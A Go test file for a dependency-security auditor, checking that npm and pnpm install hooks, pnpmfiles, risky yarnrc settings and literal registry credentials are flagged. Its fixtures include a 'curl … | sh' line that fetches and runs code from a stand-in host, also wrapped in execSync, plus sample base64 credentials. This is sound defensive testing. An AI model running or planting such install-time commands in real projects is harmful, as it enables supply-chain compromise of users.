package audit

import (
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// requiredHooks are hooks named by past findings: each must stay in
// installHooks, so dropping one from the data fails this test as well as
// the data-driven cases below.
var requiredHooks = []string{
	"preinstall", "install", "postinstall", "prepare",
	"preprepare", "postprepare", "prepublish", "pnpm:devPreinstall",
}

// allHookNames is installHooks' names with requiredHooks, each once.
func allHookNames() []string {
	var names []string
	seen := map[string]bool{}
	for _, h := range installHooks {
		names = append(names, h.name)
		seen[h.name] = true
	}
	for _, n := range requiredHooks {
		if !seen[n] {
			names = append(names, n)
		}
	}
	return names
}

const pipedInstaller = "curl -fsSL https://get.example.invalid/x | sh"

func scriptsJSON(t *testing.T, name string, scripts map[string]string) string {
	t.Helper()
	b, err := json.Marshal(map[string]any{"name": name, "version": "1.0.0", "scripts": scripts})
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestEveryInstallHookFailsDEP003: each hook in the project's package.json
// fails DEP003 under untrusted, and the code it runs counts as run by an
// install (DEP004 critical, not the high of a script run by hand).
func TestEveryInstallHookFailsDEP003(t *testing.T) {
	for _, name := range allHookNames() {
		t.Run(name, func(t *testing.T) {
			project := emptyProject(t)
			writeFile(t, filepath.Join(project, "package.json"), scriptsJSON(t, "app", map[string]string{name: pipedInstaller}))
			r := verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep)
			f := finding(t, r, "DEP003")
			if f.Result != Fail || !f.Blocks(ProfileUntrusted) || !strings.Contains(evidenceText(f), "project package runs "+name+" (") {
				t.Errorf("DEP003 %s: %s\n%s", name, f.Result, evidenceText(f))
			}
			if f := finding(t, r, "DEP004"); f.Result != Fail || f.Severity != Critical {
				t.Errorf("DEP004 for code run by %s: %s %s", name, f.Result, f.Severity)
			}
		})
	}
	// The control: a script only "npm run" starts is no install hook.
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), scriptsJSON(t, "app", map[string]string{"build": "tsc", "test": "node t.js"}))
	if f := finding(t, verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep), "DEP003"); f.Result != Pass {
		t.Errorf("plain scripts: %s\n%s", f.Result, evidenceText(f))
	}
}

// TestDependencyHooks: an installed dependency fails DEP003 for exactly the
// hooks a package manager runs for a dependency, and passes for the others
// (the project-only ones, which never run from node_modules).
func TestDependencyHooks(t *testing.T) {
	for _, h := range installHooks {
		t.Run(h.name, func(t *testing.T) {
			project := emptyProject(t)
			writeFile(t, filepath.Join(project, "package.json"), `{"name":"app","version":"1.0.0","dependencies":{"dep":"1.0.0"}}`)
			writeFile(t, filepath.Join(project, "node_modules", "dep", "package.json"), scriptsJSON(t, "dep", map[string]string{h.name: "node x.js"}))
			f := finding(t, verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep), "DEP003")
			if got := f.Result == Fail; got != h.dependency {
				t.Errorf("dependency with %s: %s, want a failure %v\n%s", h.name, f.Result, h.dependency, evidenceText(f))
			}
		})
	}
}

// TestPnpmfileIsInstallCode: each pnpmfile fails DEP003 and its code is
// scanned as install-time code.
func TestPnpmfileIsInstallCode(t *testing.T) {
	if !slices.Contains(pnpmfiles, ".pnpmfile.cjs") {
		t.Error("pnpmfiles lost .pnpmfile.cjs")
	}
	for _, name := range pnpmfiles {
		t.Run(name, func(t *testing.T) {
			project := emptyProject(t)
			writeFile(t, filepath.Join(project, "package.json"), `{"name":"app","version":"1.0.0"}`)
			writeFile(t, filepath.Join(project, name), "require('child_process').execSync('"+pipedInstaller+"')\nmodule.exports = {hooks: {}}\n")
			r := verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep)
			if f := finding(t, r, "DEP003"); f.Result != Fail || !strings.Contains(evidenceText(f), name+": pnpm loads "+name) {
				t.Errorf("DEP003: %s\n%s", f.Result, evidenceText(f))
			}
			if f := finding(t, r, "DEP004"); f.Result != Fail || f.Severity != Critical || !strings.Contains(evidenceText(f), "code run by "+name) {
				t.Errorf("DEP004: %s %s\n%s", f.Result, f.Severity, evidenceText(f))
			}
		})
	}
}

// TestYarnrcClassic: each setting of a yarn 1 .yarnrc that runs a project
// file, turns scripts on or moves the registry fails DEP011; the defaults pass.
func TestYarnrcClassic(t *testing.T) {
	cases := []struct{ line, want string }{
		{`yarn-path ".yarn/releases/yarn-1.22.19.cjs"`, ".yarnrc:1: yarn-path runs .yarn/releases/yarn-1.22.19.cjs instead of yarn"},
		{`yarn-path tools/yarn.js`, ".yarnrc:1: yarn-path runs tools/yarn.js instead of yarn"},
		{`--ignore-scripts false`, ".yarnrc:1: --ignore-scripts false forces install scripts on"},
		{`--install.ignore-scripts false`, ".yarnrc:1: --install.ignore-scripts false forces install scripts on"},
		{`ignore-scripts false`, ".yarnrc:1: ignore-scripts false forces install scripts on"},
		{`registry "https://r.example.invalid/"`, ".yarnrc:1: registry is r.example.invalid, not the public registry"},
		{`--registry https://r.example.invalid/`, ".yarnrc:1: --registry is r.example.invalid, not the public registry"},
		{`strict-ssl false`, ".yarnrc:1: strict-ssl false accepts any certificate"},
		{`script-shell /tmp/sh`, ".yarnrc:1: script-shell is overridden (/tmp/sh)"},
	}
	for _, c := range cases {
		t.Run(c.line, func(t *testing.T) {
			project := emptyProject(t)
			writeFile(t, filepath.Join(project, "package.json"), `{"name":"app","version":"1.0.0"}`)
			writeFile(t, filepath.Join(project, ".yarnrc"), c.line+"\n")
			f := finding(t, verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep), "DEP011")
			if f.Result != Fail || !strings.Contains(evidenceText(f), c.want) {
				t.Errorf("%s: %s\n%s", c.line, f.Result, evidenceText(f))
			}
		})
	}
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"app","version":"1.0.0"}`)
	writeFile(t, filepath.Join(project, ".yarnrc"), "# yarn lockfile v1\nregistry \"https://registry.yarnpkg.com\"\n--ignore-scripts true\nlastUpdateCheck 1700000000000\n")
	if f := finding(t, verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep), "DEP011"); f.Result != Pass {
		t.Errorf("default settings: %s\n%s", f.Result, evidenceText(f))
	}
}

// TestYarnPathInYarnrcYml: berry's yarnPath runs a project file too.
func TestYarnPathInYarnrcYml(t *testing.T) {
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"app","version":"1.0.0"}`)
	writeFile(t, filepath.Join(project, ".yarnrc.yml"), "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n")
	f := finding(t, verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainDep), "DEP011")
	if f.Result != Fail || !strings.Contains(evidenceText(f), ".yarnrc.yml:1: yarnPath runs .yarn/releases/yarn-4.1.0.cjs instead of yarn") {
		t.Errorf("yarnPath: %s\n%s", f.Result, evidenceText(f))
	}
}

// TestYarnrcClassicToken: a literal credential in a yarn 1 .yarnrc fails
// FS006 as one in .npmrc does; a ${VAR} reference passes.
func TestYarnrcClassicToken(t *testing.T) {
	for _, c := range []struct {
		line string
		fail bool
	}{
		{`"//registry.npmjs.org/:_authToken" "` + fakeGitHubToken + `"`, true},
		{`"//npm.acme.invalid/:_password" c2VjcmV0`, true},
		{`_auth dXNlcjpwYXNz`, true},
		{`"//registry.npmjs.org/:_authToken" "${NPM_TOKEN}"`, false},
		{`registry "https://registry.yarnpkg.com"`, false},
	} {
		project := emptyProject(t)
		writeFile(t, filepath.Join(project, ".yarnrc"), "# yarn\n"+c.line+"\n")
		f := finding(t, verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted, DomainFS), "FS006")
		if got := f.Result == Fail && strings.Contains(evidenceText(f), ".yarnrc:2: "); got != c.fail {
			t.Errorf("%s: %s\n%s", c.line, f.Result, evidenceText(f))
		}
	}
}
